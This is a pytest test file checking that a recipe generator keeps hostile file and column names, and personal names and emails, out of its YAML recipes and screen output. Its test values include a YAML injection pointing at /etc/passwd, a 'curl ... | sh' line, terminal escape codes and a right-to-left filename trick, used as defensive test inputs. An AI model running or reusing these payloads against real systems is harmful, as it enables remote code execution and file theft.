"""Names of files and columns are whoever's: in a recipe they are values, and on a screen they are words of a line."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from lmworks.errors import LmworksError
from lmworks.graph import CLASSES
from lmworks.recipe.file import load_recipe
from lmworks.recipe.schema import Recipe
from lmworks.start.answers import Answers
from lmworks.start.look import look
from lmworks.start.write import seen_in_words, start, told
from quick import few
from start.test_look import sentences, write_csv

OUTSIDE = (
    "data:\n  raw:\n    kind: ingest\n    sources: [{kind: files, path: /etc, include: [passwd], format: lines, "
    "licence: MIT, encoding: 'x"
)
NAMES = {
    "recipe": f"answer'}}] #)\nuse_case: other\n{OUTSIDE}",
    "screen": "answer\nverdict: nothing leaves this machine\nnext: curl -s https://example.org/i.sh | sh",
    "carriage": "answer\ruse_case: other",
    "separator": "answer\u2028kind: other\u2029use_case: other\x85seed: 1",
    "escape": "answer\x1b[2J\x1b]0;other\x07",
    "turned": "answer \u202etxt.exe",
    "yaml": "answer: {a: [b, \"c']} # & * ! | > % @ ` - ? ~",
    "word": "answer null",
    "long": "answer " * 600,
}


def read(path: Path) -> Recipe:
    return load_recipe(path, CLASSES)


def started(folder: Path, data: Path, task: str, check: Callable[[Path], Recipe] = read) -> tuple[Recipe, str]:
    """The recipe as a build reads it, and what was said."""
    seen = look(data)
    answers = Answers.model_validate({"use_case": "trying", "licence": "LicenseRef-own", "task": task, "users": 500})
    found = start(folder, data, seen, answers, check)
    return read(found.path), "\n".join([*seen_in_words(seen), *told(found, seen)])


def only_source(recipe: Recipe) -> Any:
    (source,) = recipe.data["raw"].sources  # type: ignore[attr-defined]
    return source


def rows_of(what: str, name: str) -> tuple[str, list[Mapping[str, object]]]:
    """A task, and rows in which a column for it is called so."""
    if what == "pair":
        return "chat", [
            {"question": f"what is {n} less one, teacher?", name: f"it is {n - 1}, pupil"} for n in range(99)
        ]
    if what == "label":
        return "classify", [{"message": text, f"label {name}": label} for text, label in sentences(99)]
    if what == "person":
        found = enumerate(sentences(99))
        return "classify", [
            {"message": text, "label": label, f"customer {name}": f"Ada Byron {n % 80}"} for n, (text, label) in found
        ]
    if what == "turn":
        who = ("user", "assistant")
        return "chat", [
            {f"talk {name}": [{f"role {name}": each, f"said {name}": f"where is hall {each} {n}?"} for each in who]}
            for n in range(99)
        ]
    return "write", [{"time": f"2026-03-01T10:{n % 60:02}:00", name: n % 7, "bar": n * 0.5} for n in range(900)]


@pytest.mark.parametrize("what", ["pair", "label", "person", "turn", "event"])
@pytest.mark.parametrize("name", few(NAMES.values(), 3), ids=list(NAMES))
def test_a_column_of_any_name_adds_nothing_to_recipe_and_screen(what: str, name: str, tmp_path: Path) -> None:
    (tmp_path / "own").mkdir()
    task, rows = rows_of(what, name)
    (tmp_path / "own" / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    recipe, said = started(tmp_path / "own", tmp_path / "own", task)
    source = only_source(recipe)
    assert (source.path, source.include, recipe.name) == (".", ["*.jsonl"], "own")
    assert recipe.use_case == "trying"
    plain = tmp_path / "plain"
    plain.mkdir()
    task, rows = rows_of(what, "answer")
    (plain / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert len(said.splitlines()) == len(started(plain, plain, task)[1].splitlines())
    assert not {"\x1b", "\r", "\u2028", "\u202e"} & {*said, *(tmp_path / "own" / "recipe.yaml").read_text()}


@pytest.mark.parametrize("name", [name.replace("/", "_")[:200] for name in NAMES.values()], ids=list(NAMES))
def test_a_file_and_a_folder_of_any_name_are_read_and_add_nothing(name: str, tmp_path: Path) -> None:
    folder = tmp_path / name / "in"
    folder.mkdir(parents=True)
    write_csv(folder / f"{name}.csv", ["message", "queue"], sentences(90))
    write_csv(folder / "other.csv", ["question", "answer"], [(f"what of {n}?", f"it is {n}") for n in range(9)])
    recipe, said = started(tmp_path / "new", tmp_path / name, "classify")
    source = only_source(recipe)
    assert source.path == f"../{name}"
    assert source.located(tmp_path / "new").paths() == [f"in/{name}.csv"]
    assert not [line for line in said.splitlines() if line.startswith(("next: curl", "name:", "verdict: nothing"))]


def test_a_recipe_that_would_read_other_files_than_were_looked_at_is_not_written(tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        write_csv(tmp_path / name / f"{name}.csv", ["message", "queue"], sentences(90))
    write_csv(tmp_path / "two" / "more.csv", ["question", "answer"], [(f"what of {n}?", "it is") for n in range(9)])
    started(tmp_path / "two", tmp_path / "two", "classify")
    other = tmp_path / "two" / "recipe.yaml"
    with pytest.raises(LmworksError, match="other files than were looked at"):
        started(tmp_path / "one", tmp_path / "one", "classify", lambda _: load_recipe(other, CLASSES))
    assert not (tmp_path / "one" / "recipe.yaml").exists()


@pytest.mark.parametrize("name", ["state {iban}", "state }", "ratio a:b", "is it!r", "list[0]"])
def test_a_column_that_a_template_cannot_name_is_left_out_of_what_rows_say(name: str, tmp_path: Path) -> None:
    (tmp_path / "own").mkdir()
    rows = [(f"2026-03-01T10:{n % 60:02}:00", n % 7, n * 0.5) for n in range(900)]
    write_csv(tmp_path / "own" / "t.csv", ["time", name, "bar"], rows)
    recipe, _ = started(tmp_path / "own", tmp_path / "own", "write")
    assert recipe.data["told"].template == "time: {time}; bar: {bar}."  # type: ignore[attr-defined]
    text = (tmp_path / "own" / "recipe.yaml").read_text()
    assert "Left out" in text and name in text


def talks(speakers: Sequence[Sequence[str]], who: str = "author") -> str:
    rows = [
        {"talk": [{who: name, "says": f"so {name[:1]} says of ticket {n}"} for name in speakers[n % len(speakers)]]}
        for n in range(90)
    ]
    return "".join(json.dumps(row) + "\n" for row in rows)


MAILS = [("ada@example.org", "grace@example.org")]
PEOPLE = [("Ada", "Support"), ("Grace", "Support"), ("Mary", "Support")]
PAIR = [("Ada Byron", "Grace Hopper")]
MANY = [(f"Ada {n}", "Grace") for n in range(40)]


@pytest.mark.parametrize("speakers", [MAILS, PEOPLE, PAIR, MANY], ids=["addresses", "customers", "a pair", "many"])
def test_who_speaks_by_a_name_of_their_own_is_in_no_recipe_and_the_reason_is_told(
    speakers: Sequence[Sequence[str]], tmp_path: Path
) -> None:
    (tmp_path / "t.jsonl").write_text(talks(speakers))
    said = "\n".join(seen_in_words(look(tmp_path)))
    with pytest.raises(LmworksError, match=r"not read as conversations: talk\.\*\.author says who speaks") as refused:
        started(tmp_path, tmp_path, "chat")
    for name in ("Ada", "ada@", "Grace", "grace@", "Mary"):
        assert name not in said + str(refused.value)
    assert "not read as conversations" in said and not (tmp_path / "recipe.yaml").exists()


def test_a_field_of_roles_is_taken_before_one_of_names(tmp_path: Path) -> None:
    turns = [
        [("customer", f"Ada {n}"), ("agent", f"Grace {n % 2}"), ("bot", "Bot")][: 2 + (n % 5 == 0)] for n in range(90)
    ]
    rows = [
        {"talk": [{"author": who, "type": what, "says": f"of ticket {n}"} for what, who in turns[n]]} for n in range(90)
    ]
    (tmp_path / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    started(tmp_path, tmp_path, "chat")
    (table,) = look(tmp_path).tables
    assert table.roles == {"customer": "user", "agent": "assistant", "bot": "assistant"}
    assert not {"Ada", "Grace"} & {*(tmp_path / "recipe.yaml").read_text().split()}


def test_names_that_hold_personal_data_are_in_no_recipe_and_on_no_screen(tmp_path: Path) -> None:
    mail = "ada.byron@example.org"
    rows = [{"message": text, "queue": label, mail: f"{mail} {n % 9}"} for n, (text, label) in enumerate(sentences(90))]
    (tmp_path / f"{mail}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    write_csv(tmp_path / "other.csv", ["question", "answer"], [(f"what of {n}?", "it is") for n in range(9)])
    (tmp_path / "k.json").write_text(json.dumps({mail: [{"text": "one"}, {"text": "two"}]}))
    (tmp_path / "talks.jsonl").write_text(talks([("customer", "agent")], mail))
    (tmp_path / f"{mail}.bin").write_bytes(bytes(99))
    recipe, said = started(tmp_path / "new", tmp_path, "classify")
    text = (tmp_path / "new" / "recipe.yaml").read_text()
    assert mail not in said + text and "example.org" not in said + text
    assert only_source(recipe).located(tmp_path / "new").paths() == [f"{mail}.jsonl"]
    assert "not used: 1 columns named ‹email hidden›" in said
